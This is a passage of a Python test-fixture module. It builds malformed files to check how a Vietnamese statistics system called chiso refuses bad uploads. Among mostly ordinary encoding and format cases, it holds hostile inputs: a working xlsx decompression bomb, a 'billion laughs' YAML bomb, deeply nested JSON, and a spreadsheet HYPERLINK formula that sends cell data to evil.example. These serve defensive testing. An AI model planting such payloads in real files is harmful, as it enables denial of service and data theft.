"""The bad-file corpus: the ways a file sent to chiso has broken, as data.

Each ``Case`` is one file for one command — ``load`` (records, ``chiso load``), ``values``
(``chiso values submit`` and ``POST /api/v1/submissions``) or ``catalog`` (``chiso catalog
import`` and ``POST /api/v1/catalogue/imports``) — and what must come of it: a refusal
(``Refused``: the problem's row, column and the words of its reason; the store unchanged)
or an acceptance (``Accepted``: what is then stored, in NFC). The files are built here from
bytes — encodings, delimiters, an archive bomb, deep nesting, broken lines — so each case
shows exactly what was sent. ``tests/files/test_bad_files.py`` runs them.

The stores the cases run against (``tests/files/conftest.py``, and the web tests' demo
site) hold the sample catalogue of Bắc Ninh (``catalogue-24.yaml``) and Sở Tài chính's
spending ``NS.CHI_NSDP`` for 2026-01 … 2026-06 (60 × the month); the record stores hold a few
procedures and dossiers. A values file is sent as Sở Tài chính (``24-STC``, its officer
``canbo.stc``), a catalogue by the administrator. Rows are data rows, 1-based, the header
excluded, blank rows keeping their numbers (``chiso.files.tables``); in a YAML or JSON
catalogue the row is the line.
"""
from __future__ import annotations

import codecs
import functools
import io
import json
import random
import struct
import unicodedata
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import polars as pl
import xlsxwriter
import yaml

#: The commands a case is sent to.
TARGETS = ("load", "values", "catalog")
#: Who sends what: the unit a values file is submitted as (CLI ``--as``; the API's officer).
AS_UNIT, OFFICER, ADMIN = "24-STC", "canbo.stc", "quantri"
CATALOGUE = Path(__file__).parents[2] / "chiso" / "catalog" / "definitions" / "catalogue-24.yaml"


# ------------------------------------------------------------------ what must come of a file
@dataclass(frozen=True)
class Refused:
    """The file is refused: one of the problems is at ``row``/``column`` with these words."""

    row: int | None
    column: str | None
    words: tuple[str, ...]
    code: str | None = None        # the reason's stable code (the values API gives it)
    status: int = 422              # the API's answer
    at_least: int | None = None    # checking stopped early: "at least N problems", N listed


@dataclass(frozen=True)
class Value:
    """A value in force after an accepted values file (its note in NFC)."""

    indicator: str
    unit: str
    period: str
    value: float
    note: str | None


@dataclass(frozen=True)
class Record:
    """A record after an accepted load: ``field`` of the record ``key`` holds ``text`` (NFC)."""

    kind: str
    key: Mapping[str, str]
    field: str
    text: str


@dataclass(frozen=True)
class Entry:
    """An indicator of the stored catalogue and its name (NFC)."""

    code: str
    name: str


@dataclass(frozen=True)
class Accepted:
    """The file is accepted; ``stored`` is then in the store. ``unchanged``: the store is as it
    was (an import of what it already holds); ``again``: then this file too, changing nothing."""

    stored: tuple[Value | Record | Entry, ...] = ()
    unchanged: bool = False
    again: Callable[[], bytes] | None = None


@dataclass(frozen=True)
class Case:
    """One file for one command, and what must come of it."""

    id: str
    target: str                                   # load, values or catalog
    name: str                                     # the file's own name (its suffix is its format)
    content: bytes | Callable[[], bytes]
    outcome: Refused | Accepted
    env: Mapping[str, str] = field(default_factory=dict)  # limits set small to reach them cheaply
    postgres: bool = False                        # in the representative PostgreSQL subset too
    known_bug: str | None = None                  # a bug outside chiso.files, not fixed yet: xfail(strict)

    def data(self) -> bytes:
        return self.content() if callable(self.content) else self.content


# ------------------------------------------------------------------ text in the ways it arrives
def nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


TONES = "\u0300\u0301\u0303\u0309\u0323"


def cp1258(text: str) -> bytes:
    """Text as Windows-1258 writes it: letters with their hats and horns whole, tone marks
    combining after them (the old Vietnamese code page has no room for every composed letter)."""
    out = []
    for ch in text:
        parts = unicodedata.normalize("NFD", ch)
        tones = "".join(c for c in parts if c in TONES)
        out.append(unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONES)) + tones)
    return "".join(out).encode("cp1258")


def garbage(n: int = 4096, seed: int = 11) -> bytes:
    """Binary bytes (a photo, a zip, a damaged file) that are no text in any encoding."""
    return random.Random(seed).randbytes(n)


def utf16_without_bom(text: str) -> bytes:
    return text.encode("utf-16-le")


def utf16_with_bom(text: str) -> bytes:
    return codecs.BOM_UTF16_LE + text.encode("utf-16-le")


def lines(*rows: str, header: str) -> str:
    return "\n".join((header, *rows)) + "\n"


def nested(depth: int) -> str:
    """A JSON list nested ``depth`` deep."""
    return "[" * depth + "]" * depth


# ------------------------------------------------------------------ workbooks, an archive bomb, Parquet
def workbook(rows: list[list[object]], sheet: str = "Sheet1") -> bytes:
    """A real .xlsx (xlsxwriter): every cell written as text, numbers as numbers."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as wb:
        ws = wb.add_worksheet(sheet)
        for r, row in enumerate(rows):
            for c, v in enumerate(row):
                if isinstance(v, int | float) and not isinstance(v, bool):
                    ws.write_number(r, c, v)
                elif v is not None:
                    ws.write_string(r, c, str(v))
    return buffer.getvalue()


def zip_of(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip archive from (name, raw deflate stream, CRC-32, unpacked size) entries, written
    by hand so that an entry's stream may be assembled from repeated pieces."""
    body, directory = bytearray(), bytearray()
    for name, stream, crc, size in entries:
        raw = name.encode()
        offset = len(body)
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(stream), size, len(raw), 0)
        body += raw + stream
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(stream), size,
                                 len(raw), 0, 0, 0, 0, 0, offset) + raw
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), len(body), 0)
    return bytes(body + directory + end)


def deflated(data: bytes) -> tuple[str, bytes, int, int]:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(), zlib.crc32(data), len(data)


#: The parts of a minimal workbook, beside its sheet.
WORKBOOK_PARTS = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                           b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
    "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                       b'2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>',
}
BOMB_UNPACKED = 2_100_000_000  # what the bomb's sheet unpacks to (bytes): two gigabytes


@functools.cache
def bomb() -> bytes:
    """An .xlsx of about 2 MB whose sheet unpacks to 2.1 GB — a real one (its deflate stream
    and CRC are true), made in a second: one megabyte of rows is compressed once after a full
    flush, and that piece repeated (after a full flush a deflate stream depends on nothing
    before it)."""
    head = (b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b"<sheetData>")
    tail = b"</sheetData></worksheet>"
    block = b'<row><c t="inlineStr"><is><t>lol</t></is></c></row>' * 20_000
    repeats = (BOMB_UNPACKED - len(head) - len(tail)) // len(block)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    piece = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    end = c.compress(tail) + c.flush()
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + repeats * len(block) + len(tail)
    sheet = ("xl/worksheets/sheet1.xml", start + piece * repeats + end, crc, size)
    return zip_of([(name, *deflated(data)) for name, data in WORKBOOK_PARTS.items()] + [sheet])


def zip_without_workbook() -> bytes:
    """A zip archive (a folder of reports, say) renamed .xlsx: no ``xl/workbook.xml``."""
    return zip_of([("bao-cao/thang-7.txt", *deflated("Báo cáo tháng 7".encode()))])


def parquet(frame: pl.DataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.write_parquet(buffer)
    return buffer.getvalue()


# ------------------------------------------------------------------ records (chiso load)
DOSSIERS = "id,unit_code,procedure_code,received_date,appointment_date,channel"
PROCEDURES = "unit_code,procedure_code,name,statutory_days"


def dossier(id_: str, received: str = "2026-03-02", appointment: str = "2026-03-09", channel: str = "online",
            unit: str = "07210", sep: str = ",") -> str:
    return sep.join((id_, unit, "1.001", received, appointment, channel))


def dossiers(*rows: str, header: str = DOSSIERS) -> bytes:
    return lines(*rows, header=header).encode()


def dossiers_jsonl(*rows: str) -> bytes:
    return ("\n".join(rows) + "\n").encode()


def dossier_json(id_: str, **changes: object) -> str:
    doc = {"id": id_, "unit_code": "07210", "procedure_code": "1.001", "received_date": "2026-03-02",
           "appointment_date": "2026-03-09", "channel": "online", **changes}
    return json.dumps(doc, ensure_ascii=False)


#: A procedure name with every Vietnamese mark: what NFC must keep whole.
PROCEDURE_NAME = "Cấp giấy phép xây dựng nhà ở riêng lẻ của hộ gia đình, cá nhân"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'


def csv_quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


# ------------------------------------------------------------------ values (chiso values submit)
#: An accepted values file writes its own month of 2025 (each case another: the PostgreSQL
#: stores and the demo site are shared), with a value near January 2026's 60 (58 … 62): an
#: earlier month far from it would make 2026-01 an outlier when it is sent again.
VALUES = "indicator,unit,period,value,note"
#: Rows as they are stored (sending them again changes nothing): the good rows around a bad one.
OK1, OK2 = "NS.CHI_NSDP,24,2026-01,60,", "NS.CHI_NSDP,24,2026-02,120,"


def values(*rows: str, header: str = VALUES, sep: str = ",") -> bytes:
    return lines(*rows, header=header.replace(",", sep)).encode()


def value_json(period: str, value: str, **more: str) -> str:
    """One entry of a JSON values file, the value written as a raw JSON token."""
    extra = "".join(f', "{k}": {json.dumps(v, ensure_ascii=False)}' for k, v in more.items())
    return f'{{"indicator": "NS.CHI_NSDP", "unit": "24", "period": "{period}", "value": {value}{extra}}}'


#: A note in Vietnamese: what an accepted file must store in NFC.
NOTE = "Số liệu Kho bạc Nhà nước đối chiếu đã điều chỉnh"


# ------------------------------------------------------------------ catalogues (chiso catalog import)
def catalogue_yaml(code: str = "TC.THU_NGHIEM", name: str = "Chỉ số thử nghiệm", owner: str = "24-STC",
                   field_: str = "FINANCE", group: str = "output", more: str = "") -> str:
    """A one-indicator catalogue; its lines are numbered for the cases (the code on line 4,
    the owner on line 12)."""
    return (f'province: "24"\n'                                    # 1
            f'version: "2025.1"\n'                                 # 2
            f"indicators:\n"                                       # 3
            f"  - code: {code}\n"                                  # 4
            f"    name: {name}\n"                                  # 5
            f"    name_en: Test indicator\n"                       # 6
            f"    definition: Khái niệm và mục đích của chỉ số.\n"  # 7
            f"    group: {group}\n"                                # 8
            f"    field: {field_}\n"                               # 9
            f"    unit: tỷ đồng\n"                                 # 10
            f"    source_system: Hệ thống TABMIS\n"                # 11
            f"    owner: {owner}\n"                                # 12
            + more)


def catalogue_json(code: str = "TC.THU_NGHIEM", **changes: object) -> str:
    entry = {"code": code, "name": "Chỉ số thử nghiệm", "name_en": "Test indicator",
             "definition": "Khái niệm và mục đích của chỉ số.", "group": "output", "field": "FINANCE",
             "unit": "tỷ đồng", "source_system": "Hệ thống TABMIS", "owner": "24-STC", **changes}
    return json.dumps({"province": "24", "version": "2025.1", "indicators": [entry]}, ensure_ascii=False, indent=1)


def billion_laughs() -> str:
    """The YAML bomb: each line nine times the one before — 10⁹ "lol"s from a few hundred bytes."""
    out = ['province: "24"', 'a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 9):
        out.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    out.append("indicators: *a8")
    return "\n".join(out) + "\n"


def sample_catalogue() -> str:
    return CATALOGUE.read_text(encoding="utf-8")


# ------------------------------------------------------------------ the cases
def _load() -> list[Case]:
    d = dossier
    return [
        # -- what is not a table
        Case("empty", "load", "dossiers.csv", b"", Refused(None, None, ("cannot read this csv file", "empty"))),
        Case("binary", "load", "dossiers.csv", garbage(), Refused(None, None, ("not UTF-8", "line")), postgres=True),
        Case("suffix", "load", "dossiers.txt", dossiers(d("L-SUF-1")),
             Refused(None, None, ("unsupported file type '.txt'",))),
        Case("too-big", "load", "dossiers.csv", dossiers(*[d(f"L-BIG-{i}") for i in range(20)]),
             Refused(None, None, ("more than the 500 bytes",)), env={"CHISO_FILE_MAX_BYTES": "500"}),
        # -- encodings
        Case("cp1258", "load", "procedures.csv",
             cp1258(lines(f"07210,L-1258,{csv_quoted(PROCEDURE_NAME)},5", header=PROCEDURES)),
             Refused(None, None, ("not UTF-8", "Windows-1258", "line 2")), postgres=True),
        Case("utf16-no-bom", "load", "dossiers.csv", utf16_without_bom(dossiers(d("L-U16N-1")).decode()),
             Refused(None, None, ("UTF-16", "without a byte-order mark"))),
        Case("utf16-bom", "load", "procedures.csv",
             utf16_with_bom(lines(f"07210,L-U16,{csv_quoted(PROCEDURE_NAME)},5", header=PROCEDURES)),
             Accepted((Record("procedures", {"unit_code": "07210", "procedure_code": "L-U16"}, "name",
                              PROCEDURE_NAME),)), postgres=True),
        Case("utf8-bom", "load", "procedures.csv",
             b"\xef\xbb\xbf" + lines(f"07210,L-BOM,{csv_quoted(PROCEDURE_NAME)},5", header=PROCEDURES).encode(),
             Accepted((Record("procedures", {"unit_code": "07210", "procedure_code": "L-BOM"}, "name",
                              PROCEDURE_NAME),))),
        Case("nfd", "load", "procedures.csv",
             lines(f"07210,L-NFD,{csv_quoted(nfd(PROCEDURE_NAME))},5", header=PROCEDURES).encode(),
             Accepted((Record("procedures", {"unit_code": "07210", "procedure_code": "L-NFD"}, "name",
                              PROCEDURE_NAME),)), postgres=True),
        # -- delimiters
        Case("semicolon", "load", "procedures.csv",
             lines(f"07210;L-SEMI;{PROCEDURE_NAME}, bản sao;5", header=PROCEDURES.replace(",", ";")).encode(),
             Accepted((Record("procedures", {"unit_code": "07210", "procedure_code": "L-SEMI"}, "name",
                              f"{PROCEDURE_NAME}, bản sao"),)), postgres=True),
        Case("tab", "load", "procedures.csv",
             lines(f"07210\tL-TAB\t{PROCEDURE_NAME}\t5", header=PROCEDURES.replace(",", "\t")).encode(),
             Accepted((Record("procedures", {"unit_code": "07210", "procedure_code": "L-TAB"}, "name",
                              PROCEDURE_NAME),))),
        Case("formula-injection", "load", "procedures.csv",
             lines(f"07210,L-FORMULA,{csv_quoted(FORMULA)},5", header=PROCEDURES).encode(),
             Accepted((Record("procedures", {"unit_code": "07210", "procedure_code": "L-FORMULA"}, "name",
                              FORMULA),)), postgres=True),
        # -- headers
        # a day with no new dossiers is an export with a header and no rows: loaded as 0 records
        # (a submission of values with none is refused: a submission is meant to hold some)
        Case("header-only", "load", "dossiers.csv", dossiers(), Accepted()),
        Case("headerless", "load", "dossiers.csv", lines(d("L-NOHEAD-2"), header=d("L-NOHEAD-1")).encode(),
             Refused(None, "id", ("required column missing",))),
        Case("duplicate-header", "load", "dossiers.csv",
             dossiers("L-DUPH-1,07210,1.001,2026-03-02,2026-03-09,online,L-DUPH-1",
                      header=DOSSIERS + ",ID"),
             Refused(None, "id", ("column appears twice",)), postgres=True),
        Case("nameless-header", "load", "dossiers.csv",
             dossiers(d("L-NONAME-1") + ",x", header=DOSSIERS + ","),
             Refused(None, "G", ("a column has values but no header",))),
        Case("same-header-twice", "load", "dossiers.csv",
             dossiers(d("L-SAME-1") + ",2026-03-09", header=DOSSIERS + ",appointment_date"),
             Refused(None, "appointment_date", ("column appears twice",))),
        Case("missing-column", "load", "dossiers.csv",
             dossiers("L-MISS-1,07210,1.001,2026-03-02,2026-03-09", header=DOSSIERS.rsplit(",", 1)[0]),
             Refused(None, "channel", ("required column missing",))),
        Case("unknown-column", "load", "dossiers.csv", dossiers(d("L-UNK-1") + ",x", header=DOSSIERS + ",ghi_chu"),
             Refused(None, "ghi_chu", ("unknown column for dossiers",))),
        # -- rows
        Case("bad-date", "load", "dossiers.csv",
             dossiers(d("L-DATE-1"), d("L-DATE-2", received="32/13/2026")),
             Refused(3, "received_date", ("not a date",)), postgres=True),
        Case("bad-choice", "load", "dossiers.csv", dossiers(d("L-ENUM-1"), d("L-ENUM-2", channel="fax")),
             Refused(3, "channel", ("not one of the allowed values",))),
        Case("unknown-unit", "load", "dossiers.csv", dossiers(d("L-UNIT-1"), d("L-UNIT-2", unit="99999")),
             Refused(3, "unit_code", ("unknown unit",))),
        Case("duplicate-key", "load", "dossiers.csv", dossiers(d("L-KEY-1"), d("L-KEY-2"), d("L-KEY-1")),
             Refused(4, "id", ("duplicate key", "row 2 has the same key")), postgres=True),
        Case("negative-count", "load", "dossiers.csv",
             dossiers(d("L-NEG-1") + ",0", d("L-NEG-2") + ",-2", header=DOSSIERS + ",supplement_count"),
             Refused(3, "supplement_count", ("below the minimum 0",))),
        Case("date-order", "load", "dossiers.csv",
             dossiers(d("L-ORDER-1"), d("L-ORDER-2", appointment="2026-02-27")),
             Refused(3, "appointment_date", ("appointment_date is before received_date",))),
        Case("blank-rows-keep-numbers", "load", "dossiers.csv",
             dossiers(d("L-BLANK-1"), "", ",,,,,", d("L-BLANK-4", received="mai")),
             Refused(5, "received_date", ("not a date",)), postgres=True),
        Case("ragged", "load", "dossiers.csv",
             dossiers(d("L-RAG-1"), d("L-RAG-2"), d("L-RAG-3") + ",thừa", d("L-RAG-4")),
             Refused(4, None, ("more cells than the header",)), postgres=True),
        Case("unterminated-quote", "load", "dossiers.csv",
             dossiers(d("L-QUOTE-1"), 'L-QUOTE-2,07210,1.001,"2026-03-02,2026-03-09,online', d("L-QUOTE-3")),
             Refused(3, None, ("quote", "never closed"))),
        Case("nul", "load", "dossiers.csv", dossiers(d("L-NUL-1"), d("L-NUL-2\x00x")),
             Refused(3, "id", ("NUL",)), postgres=True),
        # -- limits
        Case("too-many-rows", "load", "dossiers.csv", dossiers(*[d(f"L-ROWS-{i}") for i in range(6)]),
             Refused(None, None, ("more than 5 data rows",)), env={"CHISO_FILE_MAX_ROWS": "5"}, postgres=True),
        Case("too-many-columns", "load", "dossiers.csv",
             dossiers(d("L-COLS-1") + "," * 294, header=DOSSIERS + "".join(f",c{i}" for i in range(294))),
             Refused(None, None, ("300 columns, more than 256",))),
        Case("long-cell", "load", "dossiers.csv", dossiers(d("L-LONG-1"), d("L-LONG-" + "9" * 40)),
             Refused(3, "id", ("47 characters, more than 40",)), env={"CHISO_FILE_MAX_CELL_CHARS": "40"}),
        Case("huge-row", "load", "dossiers.csv", dossiers(d("L-HUGE-1"), d("L-HUGE-" + "x" * 1_000_000)),
             Refused(3, "id", ("1,000,007 characters, more than 32,767",))),
        Case("many-problems", "load", "dossiers.csv",
             dossiers(*[d(f"L-MANY-{i}", channel=f"fax{i}") for i in range(3000)]),
             # records are checked column by column over the whole file: the count is exact,
             # the first CHISO_FILE_MAX_PROBLEMS are listed
             Refused(2, "channel", ("not one of the allowed values",)),
             env={"CHISO_FILE_MAX_PROBLEMS": "20"}),
        # -- workbooks
        Case("xlsx-bomb", "load", "dossiers.xlsx", bomb, Refused(None, None, ("compressed", "archive bomb",
                                                                              "refused before unpacking")),
             postgres=True),
        Case("xlsx-unpacked", "load", "dossiers.xlsx",
             lambda: workbook([DOSSIERS.split(","), d("L-XU-1").split(",")]),
             Refused(None, None, ("would unpack to", "refused before unpacking")),
             env={"CHISO_FILE_MAX_UNPACKED_BYTES": "2000"}),
        Case("xlsx-not-zip", "load", "dossiers.xlsx", dossiers(d("L-XNZ-1")),
             Refused(None, None, ("not an Excel workbook",))),
        Case("zip-without-workbook", "load", "dossiers.xlsx", zip_without_workbook,
             Refused(None, None, ("not an Excel workbook", "xl/workbook.xml"))),
        Case("xlsx-bad-date", "load", "dossiers.xlsx",
             lambda: workbook([DOSSIERS.split(","), d("L-XD-1").split(","), d("L-XD-2", received="hôm qua").split(",")]),
             Refused(3, "received_date", ("not a date",))),
        # -- Parquet
        Case("parquet-truncated", "load", "dossiers.parquet",
             lambda: parquet(pl.DataFrame({"id": ["L-PQ-1"], "unit_code": ["07210"]}))[:-40],
             Refused(None, None, ("cannot read this parquet file",))),
        Case("parquet-footer-rows", "load", "dossiers.parquet",
             lambda: parquet(pl.DataFrame({"id": [f"L-PQR-{i}" for i in range(10)]})),
             Refused(None, None, ("more than 5 data rows",)), env={"CHISO_FILE_MAX_ROWS": "5"}),
        # -- JSON lines
        Case("jsonl-deep", "load", "dossiers.jsonl",
             dossiers_jsonl(dossier_json("L-JD-1"), dossier_json("L-JD-2")[:-1] + ', "x": ' + nested(10_000) + "}"),
             Refused(2, None, ("nested more than 32 deep",)), postgres=True),
        Case("jsonl-broken-line", "load", "dossiers.jsonl",
             dossiers_jsonl(dossier_json("L-JB-1"), dossier_json("L-JB-2"), dossier_json("L-JB-3")[:-1],
                            dossier_json("L-JB-4")),
             Refused(3, None, ("not valid JSON",)), postgres=True),
        Case("jsonl-line-not-object", "load", "dossiers.jsonl",
             dossiers_jsonl(dossier_json("L-JO-1"), '["L-JO-2", "07210"]', dossier_json("L-JO-3")),
             Refused(2, None, ("each line of a JSON lines file must be one JSON object",))),
        Case("jsonl-blank-lines-keep-numbers", "load", "dossiers.jsonl",
             dossiers_jsonl(dossier_json("L-JBL-1"), "", "  ", dossier_json("L-JBL-4", received_date="mai")),
             Refused(4, "received_date", ("not a date",))),
    ]


def _values() -> list[Case]:
    return [
        # -- what is not a table
        Case("empty", "values", "chi.csv", b"", Refused(None, None, ("empty",)), postgres=True),
        Case("binary", "values", "chi.csv", garbage(), Refused(None, None, ("not UTF-8",))),
        Case("suffix", "values", "chi.parquet", lambda: parquet(pl.DataFrame({"indicator": ["NS.CHI_NSDP"]})),
             Refused(None, None, ("unsupported file type '.parquet'",))),
        Case("too-big", "values", "chi.csv", values(OK1, OK2, *[f"NS.CHI_NSDP,24,2026-07,{i}," for i in range(30)]),
             Refused(None, None, ("more than the 300 bytes",)), env={"CHISO_FILE_MAX_BYTES": "300"}),
        # -- encodings
        Case("cp1258", "values", "chi.csv", cp1258(values(OK1, f"NS.CHI_NSDP,24,2026-07,430,{NOTE}").decode()),
             Refused(None, None, ("not UTF-8", "Windows-1258", "line 3")), postgres=True),
        Case("utf16-no-bom", "values", "chi.csv", utf16_without_bom(values(OK1, OK2).decode()),
             Refused(None, None, ("UTF-16", "without a byte-order mark"))),
        Case("utf16-bom", "values", "chi.csv",
             utf16_with_bom(values(OK1, f"NS.CHI_NSDP,24,2025-07,58,{NOTE}").decode()),
             Accepted((Value("NS.CHI_NSDP", "24", "2025-07", 58, NOTE),)), postgres=True),
        Case("utf32-bom", "values", "chi.csv",
             values(OK1, f"NS.CHI_NSDP,24,2025-08,59,{NOTE}").decode().encode("utf-32"),
             Accepted((Value("NS.CHI_NSDP", "24", "2025-08", 59, NOTE),))),
        Case("utf8-bom-nfd", "values", "chi.csv",
             b"\xef\xbb\xbf" + values(OK1, f"NS.CHI_NSDP,24,2025-09,60,{nfd(NOTE)}").decode().encode(),
             Accepted((Value("NS.CHI_NSDP", "24", "2025-09", 60, NOTE),)), postgres=True),
        # -- delimiters
        Case("semicolon", "values", "chi.csv",
             values("NS.CHI_NSDP;24;2026-01;60;", f"NS.CHI_NSDP;24;2025-10;60,5;{NOTE}, đợt 2", sep=";"),
             Accepted((Value("NS.CHI_NSDP", "24", "2025-10", 60.5, f"{NOTE}, đợt 2"),)), postgres=True),
        Case("tab", "values", "chi.csv", values("NS.CHI_NSDP\t24\t2026-01\t60\t",
                                                f"NS.CHI_NSDP\t24\t2025-11\t61\t{NOTE}", sep="\t"),
             Accepted((Value("NS.CHI_NSDP", "24", "2025-11", 61, NOTE),))),
        Case("formula-injection", "values", "chi.csv",
             values(OK1, f"NS.CHI_NSDP,24,2025-12,62,{csv_quoted(FORMULA)}"),
             Accepted((Value("NS.CHI_NSDP", "24", "2025-12", 62, FORMULA),))),
        # -- headers
        Case("header-only", "values", "chi.csv", values(),
             Refused(None, None, ("the file has no values",), code="file.empty"), postgres=True),
        Case("headerless", "values", "chi.csv", lines(OK2, header="NS.CHI_NSDP,24,2026-01,60,ghi chú").encode(),
             Refused(None, "indicator", ("required column missing",), code="column.missing")),
        Case("duplicate-header", "values", "chi.csv", values(OK1 + "60", header=VALUES + ",Value"),
             Refused(None, "value", ("column appears twice",), code="column.repeated")),
        Case("duplicate-alias", "values", "chi.csv", values(OK1 + "NS.CHI_NSDP", header=VALUES + ",mã chỉ số"),
             Refused(None, "indicator", ("column given twice",), code="column.twice")),
        Case("nameless-header", "values", "chi.csv", values(OK1 + ",x", header=VALUES + ","),
             Refused(None, "F", ("a column has values but no header",), code="column.no_header")),
        Case("same-header-twice", "values", "chi.csv", values(OK1 + ",", header=VALUES + ",note"),
             Refused(None, "note", ("column appears twice",), code="column.repeated")),
        Case("missing-column", "values", "chi.csv", values("NS.CHI_NSDP,24,2026-01", header="indicator,unit,period"),
             Refused(None, "value", ("required column missing",), code="column.missing")),
        Case("unknown-column", "values", "chi.csv", values(OK1 + ",x", header=VALUES + ",extra"),
             Refused(None, "extra", ("unknown column",), code="column.unknown")),
        # -- rows
        Case("not-a-number", "values", "chi.csv", values(OK1, OK2, "NS.CHI_NSDP,24,2026-07,mười,"),
             Refused(4, "value", ("not a number",), code="value.not_number"), postgres=True),
        Case("underflow", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,2026-07,1e-400,"),
             Refused(3, "value", ("too small to keep",), code="value.underflow"), postgres=True),
        Case("underflow-digits", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,2026-07,0." + "0" * 400 + "1,"),
             Refused(3, "value", ("too small to keep",), code="value.underflow")),
        Case("overflow", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,2026-07,1e400,"),
             Refused(3, "value", ("not a number",), code="value.not_number")),
        Case("out-of-range", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,2026-07,200000,"),
             Refused(3, "value", ("outside the allowed range [0, 100000] of NS.CHI_NSDP",), code="value.range")),
        Case("negative-count", "values", "chi.csv", values("DN.QUAY_LAI,24,2026-W30,-3,"),
             Refused(2, "value", ("outside the allowed range [0, 10000] of DN.QUAY_LAI",), code="value.range"),
             postgres=True),
        Case("unknown-indicator", "values", "chi.csv", values(OK1, "XX.KHONG_CO,24,2026-07,1,"),
             Refused(3, "indicator", ("unknown indicator",), code="indicator.unknown")),
        Case("computed-indicator", "values", "chi.csv", values(OK1, "NS.TY_LE_CHI_DU_TOAN,24,2026-07,50,"),
             Refused(3, "indicator", ("computed by a formula",), code="indicator.formula")),
        Case("unknown-unit", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,99999,2026-07,430,"),
             Refused(3, "unit", ("unknown unit",), code="unit.unknown"), postgres=True),
        Case("unit-of-another-province", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,01,2026-07,430,"),
             Refused(3, "unit", ("is not in province 24",), code="unit.province")),
        Case("period-format", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,07/2026,430,"),
             Refused(3, "period", ("cannot read window",), code="period.unreadable"), postgres=True),
        Case("period-frequency", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,2026-Q3,430,"),
             Refused(3, "period", ("reported monthly", "2026-08"), code="period.frequency")),
        Case("period-future", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,2099-01,430,"),
             Refused(3, "period", ("has not begun",), code="period.future")),
        Case("empty-cell", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,,430,"),
             Refused(3, "period", ("required value is empty",), code="cell.empty")),
        Case("percent", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,2026-07,43%,"),
             Refused(3, "value", ("a percentage",), code="value.percent")),
        Case("measure", "values", "chi.csv", values(OK1 + ",tỷ đồng", "NS.CHI_NSDP,24,2026-07,430,,triệu đồng",
                                                     header=VALUES + ",measure"),
             Refused(3, "measure", ("is measured in",), code="measure.mismatch")),
        Case("breakdown", "values", "chi.csv", values(OK1 + ",", "NS.CHI_NSDP,24,2026-07,430,,nganh=A",
                                                       header=VALUES + ",breakdown"),
             Refused(3, "breakdown", ("has no breakdowns",), code="breakdown.none")),
        Case("wrong-owner", "values", "chi.csv", values(OK1, "KT.BAN_LE,24,2026-07,5000,"),
             Refused(3, "indicator", ("only the owner agency 24-SCT",), code="owner.not_owner", status=403),
             postgres=True),
        Case("repeated-row", "values", "chi.csv",
             values(OK1, "NS.CHI_NSDP,24,2026-07,430,", "NS.CHI_NSDP,24,2026-07,430,"),
             Refused(4, "indicator, unit, period, breakdown", ("row 3 already gives NS.CHI_NSDP",),
                     code="row.duplicate"), postgres=True),
        Case("repeated-key", "values", "chi.csv",
             values(OK1, "NS.CHI_NSDP,24,2026-07,430,", "NS.CHI_NSDP,24,2026-07,431,"),
             Refused(4, "indicator, unit, period, breakdown", ("row 3 already gives NS.CHI_NSDP",),
                     code="row.duplicate")),
        Case("correction-without-reason", "values", "chi.csv", values("NS.CHI_NSDP,24,2026-01,61,"),
             Refused(2, "value", ("differs from the value in force 60", "needs a reason"), code="value.correction")),
        Case("blank-rows-keep-numbers", "values", "chi.csv",
             values(OK1, "", ",,,,", "NS.CHI_NSDP,24,2026-07,abc,"),
             Refused(5, "value", ("not a number",), code="value.not_number"), postgres=True),
        Case("ragged", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,2026-07,430,,thừa", OK2),
             Refused(3, None, ("more cells than the header",))),
        Case("unterminated-quote", "values", "chi.csv", values(OK1, 'NS.CHI_NSDP,24,2026-07,430,"ghi chú', OK2),
             Refused(3, None, ("quote", "never closed"))),
        Case("nul", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,2026-07,430,ghi\x00chú"),
             Refused(3, "note", ("NUL",)), postgres=True),
        # -- limits
        Case("too-many-rows", "values", "chi.csv", values(*[f"NS.CHI_NSDP,24,2026-0{m},{60 * m}," for m in
                                                             range(1, 7)]),
